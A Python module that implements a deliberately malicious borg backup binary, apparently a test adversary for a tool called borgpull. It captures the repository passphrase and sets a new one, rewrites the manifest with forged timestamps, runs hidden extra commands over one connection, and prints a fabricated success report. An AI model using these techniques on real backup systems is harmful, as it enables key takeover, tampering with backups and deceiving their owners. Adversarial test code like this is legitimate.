"""A malicious borg on T: does the honest `create` or `extract` that it was called for, and more, on one connection.

Runs in the Python of the borg that it abuses (1.2 or 1.4) and knows nothing of borgpull.
"""

import contextlib
import io
import json
import os
import sys

from borg.archiver import Archiver
from borg.helpers import Manifest, StableDict
from borg.item import ManifestItem
from borg.logger import setup_logging
from borg.remote import RemoteRepository

from borg import archiver as borg_archiver

ALL = 1_000_000


class OneConnection(RemoteRepository):
    """Stays open from the first command of the process to the last: the real transport serves one connection only."""

    only = None

    def __new__(cls, *args, **kwargs):
        if cls.only is None:
            cls.only = super().__new__(cls)
        return cls.only

    def __init__(self, location, *args, **kwargs):
        if not self.__dict__.get("connected"):
            super().__init__(location, *args, **{**kwargs, "exclusive": True})
            self.connected = True

    def __exit__(self, exc_type, exc_val, exc_tb):
        if exc_type is not None:
            self.rollback()


class Session:
    """One session of T: the command line of the honest `borg create` or `borg extract`, and the transport to B."""

    def __init__(self, argv):
        self.argv = argv
        read_passphrase()
        # Through sudo, which hands no setting on, the URL is an argument.
        for word in argv:
            if word.startswith("ssh://"):
                os.environ["BORG_REPO"] = word.rpartition("::")[0]
        borg_archiver.RemoteRepository = OneConnection
        self.archiver = Archiver()
        self.args = self.archiver.get_args(["borg", *argv], None)
        self.new = self.args.location.archive
        self.place = next(number for number, word in enumerate(argv) if word.endswith(f"::{self.new}"))

    def connect(self, *, lock=True):
        """Open the connection, remember what there is, and return the repository."""
        setup_logging(level="warning", json=self.args.log_json)
        location = self.args.location.omit_archive()
        self.repository = OneConnection(location, lock=lock, lock_wait=5, args=self.args)
        self.old_ids = [id_ for id_ in self.repository.list(limit=ALL) if id_ != Manifest.MANIFEST_ID]
        self.load()
        self.old = dict(self.manifest.archives.get_raw_dict())
        self.old_timestamp = self.manifest.timestamp
        return self.repository

    def load(self):
        """Read the manifest as it is now."""
        self.manifest, self.key = Manifest.load(self.repository, (Manifest.Operation.WRITE,))
        return self.manifest

    def create(self, *options, name=None):
        """Run the honest `borg create`, with further options, or for another archive; or the honest `borg extract`."""
        argv = list(self.argv)
        if "extract" in argv:
            return self._run(argv)
        argv[self.place] = f"::{name or self.new}"
        position = argv.index("create") + 1
        return self._run([*argv[:position], *options, *argv[position:]])

    def quietly(self, *argv):
        """Run another borg command over the same connection; its output goes nowhere."""
        with contextlib.redirect_stdout(io.StringIO()):
            return self._run(list(argv))

    def _run(self, argv):
        return self.archiver.run(Archiver().get_args(["borg", *argv], None))

    def write_manifest(self, *, timestamp=None):
        """Write and commit the manifest as it was changed in memory; borg itself never lets its timestamp stay."""
        if timestamp is None:
            self.manifest.write()
        else:
            item = ManifestItem(
                version=1,
                archives=StableDict(self.manifest.archives.get_raw_dict()),
                timestamp=timestamp,
                config=StableDict(self.manifest.config),
                item_keys=tuple(sorted(self.manifest.item_keys)),
            )
            data = self.key.pack_and_authenticate_metadata(item.as_dict())
            self.repository.put(Manifest.MANIFEST_ID, self.key.encrypt(data))
        self.repository.commit(compact=False)

    def names(self):
        """Return the names of the archives from before, oldest first."""
        times = {name.decode(): value[b"time"] for name, value in self.old.items()}
        return sorted(times, key=times.get)

    def claim(self):
        """Print what a successful `borg create --json` prints."""
        stats = {"original_size": 2_000_543, "compressed_size": 1_000_000, "deduplicated_size": 500_000, "nfiles": 3}
        archive = {"id": "ab" * 32, "name": self.new, "start": "2026-01-01T00:00:00.000000", "stats": stats}
        cache = {"path": "/root/.cache/borg", "stats": {}}
        print(json.dumps({"archive": archive, "cache": cache, "encryption": {"mode": "repokey"}, "repository": {}}))

    def close(self):
        """End the connection the way borg does."""
        if OneConnection.only is not None:
            RemoteRepository.close(OneConnection.only)


def read_passphrase():
    """Keep the passphrase: the descriptor, or the input, gives it once, and an attacker asks more often."""
    if fd := os.environ.pop("BORG_PASSPHRASE_FD", None):
        with os.fdopen(int(fd), encoding="utf-8") as pipe:
            os.environ["BORG_PASSPHRASE"] = pipe.read().rstrip("\n")
    elif "BORG_PASSPHRASE" not in os.environ:
        os.environ["BORG_PASSPHRASE"] = sys.stdin.readline().rstrip("\n")
    os.environ["BORG_NEW_PASSPHRASE"] = "mine now"
